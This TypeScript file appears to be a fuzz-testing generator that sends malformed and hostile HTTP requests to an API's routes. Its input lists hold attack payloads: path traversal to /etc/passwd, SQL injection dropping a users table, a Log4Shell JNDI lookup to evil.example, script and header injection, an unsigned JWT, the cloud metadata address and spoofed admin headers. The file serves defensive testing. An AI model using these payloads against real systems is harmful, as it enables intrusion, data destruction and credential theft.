/** Values that no client would send, dealt by a seed. */
import { createRandom, type Random } from '../model/random.ts'

const LONG = 'a'.repeat(5_000)

/** As text: of paths, queries, headers and bodies. */
const TEXTS = [
  '',
  ' ',
  '\u0000',
  '..',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  "' or 1=1 --",
  "'; drop table users; --",
  '$where',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '%',
  '%s%n%x',
  '%25',
  '_',
  '\\',
  '"',
  '\r\nX-Injected: 1',
  '\u202e\u2066',
  '\ud83d\ude00'.repeat(40),
  'é\u0301',
  'İ',
  '-1',
  '0',
  '1e308',
  '1e999',
  'NaN',
  '9007199254740993',
  '-9223372036854775809',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '2026-13-45T99:99:99Z',
  '+999999-01-01T00:00:00Z',
  'eyJhbGciOiJub25lIn0.e30.',
  ',,,',
  ':',
  'state:',
  'a:b,c:d',
  '*',
  'http://169.254.169.254/',
  LONG,
] as const

const VALUES: readonly unknown[] = [
  ...TEXTS,
  '\ud800',
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  {},
  [null],
  [[[[]]]],
  { a: { b: { c: {} } } },
  { toString: null },
  { length: 1e9 },
  Array.from({ length: 300 }, () => 'x'),
]

const HEADERS = {
  accept: ['', '*/*;q=x', 'text/event-stream', LONG, 'application/xml', ',,,;;;'],
  'if-match': ['', '*', 'W/"', '"a', 'W/"x", "y"', LONG],
  'if-none-match': ['*', '"', LONG],
  range: ['bytes=0-', 'bytes=-1', 'bytes=9-1', 'x'],
  'last-event-id': ['-1', '1e9', 'x', '99999999999999999999', ''],
  'x-request-id': ['<script>', LONG.slice(0, 200), '../..', ''],
  'x-forwarded-for': ['1.2.3.4', '::::', LONG],
  'x-forwarded-proto': ['https', 'javascript'],
  'x-http-method-override': ['DELETE'],
  'content-language': ['xx'],
  'accept-language': [LONG, '*'],
  'accept-encoding': ['gzip;q=-1', '*', 'br,,,'],
  cookie: ['a=b; c', 'session=admin'],
  origin: ['null', 'https://evil.example'],
  referer: ['https://evil.example/'],
  prefer: ['return=minimal', LONG],
  te: ['trailers'],
} as const satisfies Record<string, readonly string[]>

export interface Shape {
  method: string
  /** With `:name` for parameters. */
  path: string
  /** Names that the route knows. */
  query: readonly string[]
  body: readonly string[]
}

export interface HostileRequest {
  method: string
  path: string
  headers: Record<string, string>
  body?: string
}

/** `type`: of the body. */
export function* hostileRequests(shape: Shape, seed: number, count: number, type: string): Generator<HostileRequest> {
  const random = createRandom(seed)
  for (let n = 0; n < count; n++) yield hostileRequest(shape, random, type)
}

function hostileRequest(shape: Shape, random: Random, type: string): HostileRequest {
  const path = shape.path.replace(/:\w+/g, (name) => parameter(name, random))
  const query = pairs(shape.query, random, () => random.pick(TEXTS))
    .map(([name, value]) => `${encode(name, random)}=${encode(String(value), random)}`)
    .join('&')
  const headers = Object.fromEntries(
    Object.entries(HEADERS)
      .filter(() => random.chance(0.2))
      .map(([name, values]) => [name, random.pick<string>(values)]),
  )
  const request = { method: shape.method, path: query ? `${path}?${query}` : path, headers }
  if (shape.method === 'GET' || shape.method === 'DELETE') return request
  const body = JSON.stringify(Object.fromEntries(pairs(shape.body, random, () => random.pick(VALUES))))
  const length = String(Buffer.byteLength(body))
  return { ...request, headers: { ...headers, 'content-type': type, 'content-length': length }, body }
}

/** Sometimes one that is right, so that what comes behind it is met too. */
const parameter = (name: string, random: Random): string =>
  random.chance(0.4) ? (name === ':kind' ? 'pbx' : '1') : encode(random.pick(TEXTS.slice(2)), random) || '1'

function pairs(known: readonly string[], random: Random, value: () => unknown): [string, unknown][] {
  const names = [...known.filter(() => random.chance(0.6)), ...(random.chance(0.15) ? [random.pick(TEXTS)] : [])]
  return names.map((name) => [name, value()])
}

/** Now and then as it is, but for what cannot stand in a request line. */
const encode = (text: string, random: Random): string =>
  random.chance(0.1) ? text.replace(/[^\x21-\x7e]|[?&#]/gu, '') : encodeURIComponent(text)
